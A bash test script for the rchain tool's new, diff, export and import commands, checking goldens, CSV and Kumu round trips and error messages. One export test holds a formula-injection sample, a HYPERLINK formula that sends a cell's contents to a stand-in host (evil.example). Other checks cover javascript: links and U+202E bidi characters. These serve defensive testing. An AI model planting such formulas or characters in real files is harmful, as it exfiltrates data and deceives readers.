#!/usr/bin/env bash
# The authoring and interop commands (new, diff, export, import) and the schema hint: TAP output.
# Usage: interop.sh RCHAIN, the binary to test; $RCHAIN_SOURCE_DIR is the source root.
set -u

rchain=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
src=${RCHAIN_SOURCE_DIR:?RCHAIN_SOURCE_DIR must name the source root}
work=$(mktemp -d "${TMPDIR:-/tmp}/rchain-interop.XXXXXX") || exit 1
trap 'rm -rf "$work"' EXIT
cd "$src" || exit 1

out=$work/stdout
err=$work/stderr

# shellcheck source=tests/cli/tap.sh
. "$src/tests/cli/tap.sh"

# ---- new ----

for template in blank partnership columns; do
	run new --template "$template"
	want_status 0
	want_stderr ""
	cp "$out" "$work/$template.xml"
	run check "$work/$template.xml"
	want_status 0
	grep -q "^$work/$template.xml: 0 errors, " "$out" || problem "the template has errors: $(tail -n 1 "$out")"
	verdict "new --template $template checks with no errors"
done

run new
want_status 0
cmp -s "$out" "$work/blank.xml" || problem "the default template is not blank"
verdict "new writes the blank template by default"

run new -t columns -o "$work/mine.xml"
want_status 0
want_stdout ""
want_stderr "rchain: wrote $work/mine.xml"
cmp -s "$work/mine.xml" "$work/columns.xml" || problem "-o wrote something else"
run new -o "$work/mine.xml"
want_status 2
want_stderr "$work/mine.xml: error: already exists; remove it or choose another name"
cmp -s "$work/mine.xml" "$work/columns.xml" || problem "the existing file changed"
verdict "new -o writes a file, and never replaces one"

run new --template fancy
want_usage_error "rchain new: --template must be blank, partnership or columns"
run new extra
want_usage_error "rchain new: takes no arguments besides its options"
verdict "new: bad template or argument, exit 3"

# ---- the schema hint: editors read it, rchain never opens it ----

# The hint names a FIFO: opening it for reading would block until the test's timeout.
mkfifo "$work/never-read.xsd"
sed 's|rchain-model.xsd|'"$work"'/never-read.xsd|' "$work/blank.xml" >"$work/hinted.xml"
grep -q "never-read.xsd" "$work/hinted.xml" || problem "the fixture has no hint"
timeout 20 "$rchain" check "$work/hinted.xml" >"$out" 2>"$err"
status=$?
want_status 0
if command -v strace >/dev/null && strace -f -o "$work/trace" -e trace=open,openat "$rchain" check "$work/hinted.xml" >/dev/null 2>&1; then
	! grep -q "never-read" "$work/trace" || problem "rchain opened the hinted schema: $(grep never-read "$work/trace")"
fi
verdict "xsi:schemaLocation is accepted and the hinted file is never opened"

# ---- diff ----

run diff "$data/diff/old.xml" "$data/diff/new.xml"
want_status 1
want_stderr ""
cmp -s "$out" "$goldens/diff/diff.txt" || problem "differs from $goldens/diff/diff.txt: $(diff "$out" $goldens/diff/diff.txt | head -5)"
verdict "diff: the text golden, exit 1"

run diff --format json "$data/diff/old.xml" "$data/diff/new.xml"
want_status 1
cmp -s "$out" "$goldens/diff/diff.json" || problem "differs from $goldens/diff/diff.json"
python3 - "$out" "$data" <<'PY' || problem "the diff JSON does not parse as documented"
import json, sys
doc = json.load(open(sys.argv[1]))
assert doc["old"] == sys.argv[2] + "/diff/old.xml" and doc["new"] == sys.argv[2] + "/diff/new.xml" and doc["equal"] is False
kinds = {(c["change"], c["element"], c["key"]) for c in doc["changes"]}
assert ("removed", "step", "wellbeing") in kinds and ("added", "step", "access") in kinds
aims = next(c for c in doc["changes"] if c["key"] == "aims")
assert aims["old"]["line"] == 14 and [f["name"] for f in aims["fields"]] == ["confidence", "title"]
assert {f["change"] for f in doc["findings"]} == {"introduced", "fixed"}
assert {o["id"]: (o["old"], o["new"]) for o in doc["outcomes"]} == {"access": (None, "none"), "wellbeing": ("none", None)}
assert doc["story"]["verdict"] == "revised" and [(p["assumption"], p["still"]) for p in doc["story"]["doubtful"]] == [("a.faith", False)]
PY
verdict "diff --format json: the golden, and it parses"

# Whether the story was revised (contribution analysis step 6): evidence added alone, then with the assumption reassessed.
for name in evidence revised; do
	run diff "$data/diff/story-old.xml" "$data/diff/story-$name.xml"
	want_status 1
	want_stderr ""
	cmp -s "$out" "$goldens/diff/story-$name.txt" || problem "differs from $goldens/diff/story-$name.txt: $(diff "$out" "$goldens/diff/story-$name.txt" | head -5)"
	verdict "diff story-old story-$name: the text golden, the story verdict"
done

run diff --format json "$data/diff/story-old.xml" "$data/diff/story-evidence.xml"
want_status 1
cmp -s "$out" "$goldens/diff/story-evidence.json" || problem "differs from $goldens/diff/story-evidence.json"
python3 - "$out" <<'PY' || problem "the story member does not parse as documented"
import json, sys
story = json.load(open(sys.argv[1]))["story"]
assert story["verdict"] == "not-revised" and story["evidenceAdded"] == 1 and story["statusesChanged"] == 0
assert story["doubtful"] == [{"outcome": "work", "assumption": "a.transfer", "byId": True, "still": True, "line": 24, "column": 5}]
PY
verdict "diff --format json story-old story-evidence: the golden, not revised, the doubtful assumption still there"

for m in models/*.xml; do
	run diff "$m" "$m"
	want_status 0
	want_stdout ""
	want_stderr ""
	verdict "diff of $m with itself: no output, exit 0"
done

run diff "$data/diff/old.xml" "$data/cli/malformed.xml"
want_status 2
want_stdout ""
want_stderr "$data/cli/malformed.xml:5:59: error: Opening and ending tag mismatch: title line 5 and step [RS010 not-well-formed]"
verdict "diff with a malformed model: exit 2, one line"

run diff "$data/diff/old.xml"
want_usage_error "rchain diff: give two model files, the old version and the new"
run diff --format yaml "$data/diff/old.xml" "$data/diff/new.xml"
want_usage_error "rchain diff: --format must be text or json"
run diff --bogus "$data/diff/old.xml" "$data/diff/new.xml"
want_usage_error "rchain diff: unknown or incomplete option '--bogus'"
verdict "diff: bad usage, exit 3"

# ---- export ----

run export models/columns-strands.xml
want_status 0
want_stderr ""
cmp -s "$out" "$goldens/csv/columns-strands.csv" || problem "differs from $goldens/csv/columns-strands.csv"
verdict "export writes CSV to standard output by default"

for m in models/*.xml; do
	run export "$m"
	want_status 0
	cp "$out" "$work/table.csv"
	python3 - "$work/table.csv" "$m" <<'PY' || problem "$m: the CSV is not the table docs/interop.md describes"
import csv, sys
raw = open(sys.argv[1], "rb").read()
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f))
levels = ["Inputs / resources", "Activities", "Engagement / involvement / reach", "Reactions / awareness",
          "Knowledge, attitudes, skills, aspirations", "Practices and behaviours", "Final outcomes"]
assert rows[0][-7:] == levels, rows[0]
assert raw.endswith(b"\r\n") and raw.count(b"\r\n") == len(rows), "records end in CRLF"
assert all(len(r) == len(rows[0]) for r in rows)
steps = sum(len([s for s in cell.split("\n") if s]) for r in rows[1:] for cell in r[len(rows[0]) - 7:])
import re
assert steps == len(re.findall(r"<step ", open(sys.argv[2]).read())), steps
PY
	rm -f "$work/imported.xml"
	run import csv "$work/table.csv" -o "$work/imported.xml"
	want_status 0
	run export "$work/imported.xml"
	want_status 0
	cmp -s "$out" "$work/table.csv" || problem "$m: export -> import -> export is not byte-stable"
	run check "$work/imported.xml"
	grep -q "^$work/imported.xml: 0 errors, " "$out" || problem "$m: the imported model has errors"
	verdict "export $m: Python's csv reads the table; import and export again is byte-identical"
done

run export -f markdown models/columns-strands.xml
want_status 0
cmp -s "$out" "$goldens/markdown/columns-strands.md" || problem "differs from $goldens/markdown/columns-strands.md"
verdict "export -f markdown"

run export $data/export/formulas.xml
want_status 0
cmp -s "$out" $goldens/csv/formulas.csv || problem "differs from $goldens/csv/formulas.csv"
python3 - "$out" <<'PY' || problem "a cell of the CSV starts a formula"
import csv, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.reader(f))
cells = [c for r in rows for c in r if c]
assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "'=1+1\n+44 helpline" in cells, cells
PY
cp "$out" "$work/formulas.csv"
run import csv "$work/formulas.csv" -o "$work/formulas.xml"
want_status 0
run export "$work/formulas.xml"
want_status 0
cmp -s "$out" "$work/formulas.csv" || problem "export -> import -> export is not byte-identical"
verdict "export csv: no cell starts a formula (=HYPERLINK, tab then =), and the round trip is exact"

run export -f markdown $data/export/formulas.xml
want_status 0
cmp -s "$out" $goldens/markdown/formulas.md || problem "differs from $goldens/markdown/formulas.md"
! grep -q -e '](javascript:' -e '](http' -e '<img' "$out" || problem "a link, image or tag survives: $(grep -e '](' -e '<img' "$out")"
verdict "export -f markdown: no link, image or HTML from the titles"

printf 'Inputs\nab\342\200\256c\n' >"$work/bidi.csv"
run import csv "$work/bidi.csv"
want_status 2
want_stdout ""
want_stderr "$work/bidi.csv:2:3: error: a bidirectional control character (U+202E), which can show text in another order than it is stored; remove it"
sed 's|<title>Fewer people feel isolated|<title>Fewer \&#x202E;people|' $data/export/awkward.xml >"$work/bidi.xml"
run export "$work/bidi.xml"
want_status 2
want_stdout ""
want_stderr "$work/bidi.xml:15:32: error: a bidirectional control character (U+202E), which can show text in another order than it is stored; remove it [RS013 bidi-control]"
verdict "import and export refuse bidirectional control characters, located"

run export -f kumu -o "$work/kumu.json" models/wws-partnership.xml
want_status 0
want_stdout ""
want_stderr "rchain: wrote $work/kumu.json"
python3 - "$work/kumu.json" <<'PY' || problem "the Kumu blueprint is not what docs/interop.md describes"
import json, sys
doc = json.load(open(sys.argv[1]))
assert set(doc) == {"elements", "connections"}
ids = {e["id"] for e in doc["elements"]}
steps = [e for e in doc["elements"] if "Level" in e]
assert len(ids) == len(doc["elements"]) == 43 and len(steps) == 36
assert all(e["label"] and e["type"] for e in doc["elements"])
assert all(c["from"] in ids and c["to"] in ids and c["type"] in ("causal", "feedback") for c in doc["connections"])
assert len(doc["connections"]) == 49 and sum(c["type"] == "feedback" for c in doc["connections"]) == 3
assert all(isinstance(e["Notes"], int) for e in steps)
PY
verdict "export -f kumu -o FILE: a blueprint that parses, with every step and link"

# Read back, the blueprint holds every assumption, risk, evidence item and indicator of the model, on its owner.
python3 - "$work/kumu.json" models/wws-partnership.xml <<'PY' || problem "the Kumu blueprint lost annotations"
import json, sys, xml.etree.ElementTree as ET
ns = "{urn:rchain:model:1}"
doc = json.load(open(sys.argv[1]))
model = ET.parse(sys.argv[2]).getroot()
text = lambda x: " ".join("".join(x.itertext()).split())
fields = {"assumption": "Assumptions", "risk": "Risks", "evidence": "Evidence", "indicator": "Indicators"}
types = {"assumption": "Assumption", "risk": "Risk", "evidence": "Evidence"}
steps = {e["id"]: e for e in doc["elements"] if "Level" in e}
links = {(c["from"], c["to"]): c for c in doc["connections"]}
counts = dict.fromkeys(fields, 0)
def held(kind, owner, node):
    statement = text(node.find(ns + "statement")) if kind == "risk" else text(node.find(ns + "summary")) if kind == "evidence" and node.find(ns + "summary") is not None else text(node)
    if owner is None:
        notes = [e["label"] for e in doc["elements"] if e["type"] == types[kind]]
    else:
        notes = owner.get(fields[kind], [])
    assert any(n.startswith(statement) for n in notes), (kind, statement[:60], notes[:2])
    counts[kind] += 1
for kind in fields:
    for node in model.findall(ns + kind):
        held(kind, None, node)
for step in model.findall(ns + "step"):
    for kind in fields:
        for node in step.findall(ns + kind):
            held(kind, steps[step.get("id")], node)
for link in model.findall(ns + "link"):
    for kind in fields:
        for node in link.findall(ns + kind):
            held(kind, links[(link.get("from"), link.get("to"))], node)
assert counts["assumption"] == 59 and counts["evidence"] == 60, counts
total = lambda field: sum(len(x.get(field, [])) for x in doc["elements"] + doc["connections"])
assert total("Assumptions") + sum(e["type"] == "Assumption" for e in doc["elements"]) == counts["assumption"]
assert total("Evidence") + sum(e["type"] == "Evidence" for e in doc["elements"]) == counts["evidence"]
assert total("Risks") + sum(e["type"] == "Risk" for e in doc["elements"]) == counts["risk"] > 0
assert total("Indicators") == counts["indicator"] > 0
PY
verdict "export -f kumu: every assumption, risk, evidence item and indicator of wws-partnership, read back on its owner"

# Without --format, the extension of -o FILE picks the back-end.
for pair in csv:csv/columns-strands.csv md:markdown/columns-strands.md markdown:markdown/columns-strands.md \
	json:kumu/columns-strands.json CSV:csv/columns-strands.csv; do
	ext=${pair%%:*} golden=$goldens/${pair#*:}
	run export -o "$work/picked.$ext" models/columns-strands.xml
	want_status 0
	want_stdout ""
	want_stderr "rchain: wrote $work/picked.$ext"
	cmp -s "$work/picked.$ext" "$golden" || problem "differs from $golden"
	verdict "export -o x.$ext writes what $golden holds"
done

run export --format csv -o "$work/x.md" models/columns-strands.xml
want_status 3
want_stdout ""
want_stderr "rchain export: -o $work/x.md: the extension .md does not match --format csv (see 'rchain export --help')"
run export -f markdown -o "$work/x.json" models/columns-strands.xml
want_status 3
want_stderr "rchain export: -o $work/x.json: the extension .json does not match --format markdown (see 'rchain export --help')"
run export -o "$work/x.xlsx" models/columns-strands.xml
want_status 3
want_stdout ""
want_stderr "rchain export: -o $work/x.xlsx: no export format writes .xlsx files (csv, markdown or kumu) (see 'rchain export --help')"
for f in x.md x.json x.xlsx; do
	[ ! -e "$work/$f" ] || problem "$f was written"
done
verdict "export -o with an extension --format does not write, or that no export format writes: exit 3"

# Never overwrite an input: export to the model by name, through a symbolic link or a hard link; import to its table.
cp models/columns-strands.xml "$work/m.xml"
ln -s m.xml "$work/m-symlink.xml"
ln "$work/m.xml" "$work/m-hardlink.xml"
for target in m.xml m-symlink.xml m-hardlink.xml; do
	run export -o "$work/$target" "$work/m.xml"
	want_status 2
	want_stdout ""
	want_stderr "$work/$target: error: is the same file as the input $work/m.xml; write the output to another file"
	cmp -s "$work/m.xml" models/columns-strands.xml || problem "the model changed"
	verdict "export -o $target m.xml: exit 2, the model byte-identical"
done
cp $data/evidence/user-base.xml "$work/ev.xml"
run export -f csv -o "$work/ev.xml" --evidence "$work/ev.xml" models/columns-strands.xml
want_status 2
want_stderr "$work/ev.xml: error: is the same file as the input $work/ev.xml; write the output to another file"
cmp -s "$work/ev.xml" $data/evidence/user-base.xml || problem "the evidence base changed"
verdict "export -o onto an --evidence file: exit 2, the evidence base byte-identical"
cp $goldens/csv/columns-strands.csv "$work/t.csv"
run import csv -o "$work/t.csv" "$work/t.csv"
want_status 2
want_stdout ""
want_stderr "$work/t.csv: error: is the same file as the input $work/t.csv; write the output to another file"
cmp -s "$work/t.csv" $goldens/csv/columns-strands.csv || problem "the table changed"
verdict "import csv -o TABLE TABLE: exit 2, the table byte-identical"

run export -f xlsx models/columns-strands.xml
want_usage_error "rchain export: --format must be csv, markdown or kumu"
run export
want_usage_error "rchain export: give exactly one model file"
verdict "export: bad usage, exit 3"

# ---- import ----

run import csv "$data/import/bad-heading.csv"
want_status 2
want_stdout ""
want_stderr "$data/import/bad-heading.csv:1:15: error: unknown column heading 'Goals': name a level (such as Inputs, Activities, Outputs, Short-term outcomes, Final outcomes) or Strand"
verdict "import: an unknown heading, exit 2, located"

printf 'Strand,Inputs,Activites\r\nA,Staff,Sessions\r\n' >"$work/typo.csv"
run import csv "$work/typo.csv"
want_status 2
want_stdout ""
want_stderr "$work/typo.csv:1:15: error: unknown column heading 'Activites'; did you mean 'activities'? Otherwise name a level or Strand"
verdict "import: a misspelt heading, exit 2, located, with the heading meant"

# Semicolons (European spreadsheets) and tabs separate fields as well as commas, and a byte-order mark is skipped.
run export models/columns-strands.xml
# (The model id and title come from the file name: each table is table.csv, imported in its own folder.)
rewrite() { # rewrite DELIMITER < CSV > CSV: the same table with another separator, quoting what needs it
	python3 -c '
import csv, sys
rows = list(csv.reader(sys.stdin, strict=True))
csv.writer(sys.stdout, delimiter=sys.argv[1], lineterminator="\r\n").writerows(rows)' "$1"
}
import_in() { # import_in FOLDER: imports FOLDER/table.csv there into FOLDER.xml
	(cd "$1" && "$rchain" import csv table.csv >"../$(basename "$1").xml" 2>"$err")
	status=$?
}
mkdir -p "$work/semicolons" "$work/tabs" "$work/commas" "$work/bom"
cp "$goldens/csv/columns-strands.csv" "$work/commas/table.csv"
import_in "$work/commas"
rewrite ';' <"$goldens/csv/columns-strands.csv" >"$work/semicolons/table.csv"
grep -q ';' "$work/semicolons/table.csv" || problem "the ;-separated table has no ';'"
import_in "$work/semicolons"
want_status 0
cmp -s "$work/semicolons.xml" "$work/commas.xml" || problem "the ;-separated table imports differently"
rewrite "$(printf '\t')" <"$goldens/csv/columns-strands.csv" >"$work/tabs/table.csv"
import_in "$work/tabs"
want_status 0
cmp -s "$work/tabs.xml" "$work/commas.xml" || problem "the tab-separated table imports differently"
printf 'Strand;Inputs;Activities\r\nA;"Staff; time";Sessions\r\n' >"$work/quoted.csv"
run import csv "$work/quoted.csv"
want_status 0
grep -q '<title>Staff; time</title>' "$out" || problem "a quoted ';' split the field: $(grep title "$out" | head -3)"
verdict "import: ';' and tab separators read as commas are, a quoted ';' kept"

run export --bom models/columns-strands.xml -o "$work/bom/table.csv"
want_status 0
[ "$(head -c 3 "$work/bom/table.csv" | od -An -tx1 | tr -d ' ')" = efbbbf ] || problem "no byte order mark"
tail -c +4 "$work/bom/table.csv" | cmp -s - "$goldens/csv/columns-strands.csv" || problem "after the mark, not the CSV export"
import_in "$work/bom"
want_status 0
cmp -s "$work/bom.xml" "$work/commas.xml" || problem "the table with a byte order mark imports differently"
run export --bom --format markdown models/columns-strands.xml
want_usage_error "rchain export: --bom is for --format csv only (see 'rchain export --help')"
verdict "export --bom: EF BB BF, then the CSV; import skips it; refused for other formats"

run import csv "$data/import/scattered.csv"
want_status 0
sed "s|$data/import/scattered.csv|scattered.csv|" "$out" | cmp -s - "$goldens/import/scattered.xml" ||
	problem "differs from $goldens/import/scattered.xml"
cp "$out" "$work/scattered.xml"
run export "$work/scattered.xml"
cp "$out" "$work/scattered-1.csv"
rm -f "$work/scattered-2.xml"
run import csv -o "$work/scattered-2.xml" "$work/scattered-1.csv"
run export "$work/scattered-2.xml"
cmp -s "$out" "$work/scattered-1.csv" || problem "import, export, import, export is not byte-stable"
verdict "import: white space folded as the loader folds it; a strand in two rows read strand by strand; a fixed point"

run import csv "$data/import/ragged.csv"
want_status 2
want_stdout ""
want_stderr "$data/import/ragged.csv:3:1: error: a row of 2 fields, but the header row has 3"
verdict "import: a ragged row, exit 2, located"

run import csv "$data/import/open-quote.csv"
want_status 2
want_stdout ""
want_stderr "$data/import/open-quote.csv:2:7: error: a quoted field is not closed (a quote is missing)"
verdict "import: a quote left open, exit 2, located"

run import csv "$data/import/no-such.csv"
want_status 2
want_stderr "$data/import/no-such.csv: error: cannot open: No such file or directory"
verdict "import: a missing file, exit 2"

"$rchain" import csv - <"$goldens/csv/columns-strands.csv" >"$out" 2>"$err"
status=$?
want_status 0
grep -q 'id="imported"' "$out" || problem "the model from standard input is not called imported"
verdict "import csv - reads standard input"

run import xlsx "$data/import/ragged.csv"
want_usage_error "rchain import: give the table's format, csv, and one table file"
run import csv
want_usage_error "rchain import: give the table's format, csv, and one table file"
verdict "import: bad usage, exit 3"

echo "1..$tests"
[ "$failures" -eq 0 ]
